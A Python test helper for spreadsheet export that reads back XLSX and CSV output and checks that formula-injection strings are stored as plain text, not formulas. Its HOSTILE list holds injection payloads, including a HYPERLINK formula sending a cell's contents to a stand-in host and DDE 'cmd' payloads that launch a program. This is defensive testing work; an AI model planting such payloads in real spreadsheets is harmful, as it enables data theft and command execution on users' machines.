"""Reading back what a writer produced: no formula anywhere, and each hostile text as a text cell."""
from __future__ import annotations

import csv
import io
import re
import zipfile

from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

# What a user might type to plant a formula: one per prefix a spreadsheet program treats as one.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
_FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")


def _same(a: str, b: str) -> bool:
    """Equal up to how XML keeps a CR (a newline, or XlsxWriter's escape _x000D_ that openpyxl leaves)."""
    def norm(s: str) -> str:
        return s.replace("_x000D_", "\r").replace("\r\n", "\n").replace("\r", "\n")
    return norm(a) == norm(b)


def assert_xlsx_text(data: bytes, texts: list[str] = HOSTILE) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not _FORMULA.search(z.read(name)), f"{name} holds a formula"
    wb = load_workbook(io.BytesIO(data))
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    for t in texts:
                        if _same(cell.value, t):
                            found[t] = cell
    assert set(found) == set(texts), f"missing: {set(texts) - set(found)}"
    for text, cell in found.items():
        assert cell.data_type == "s", (text, cell.data_type)
    seen = {str(v) for sheet in CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names
            for row in CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(sheet).to_python()
            for v in row}
    assert all(any(_same(s, t) for s in seen) for t in texts), "calamine reads each text back as text"


def assert_csv_text(data: bytes, texts: list[str] = HOSTILE) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [c for row in rows for c in row]
    for c in cells:
        assert not c.startswith(("=", "+", "@", "\t", "\r")) and not re.match(r"-\D", c), f"formula-like cell {c!r}"
    for t in texts:
        assert "'" + t in cells, f"{t!r} not kept as quoted text"
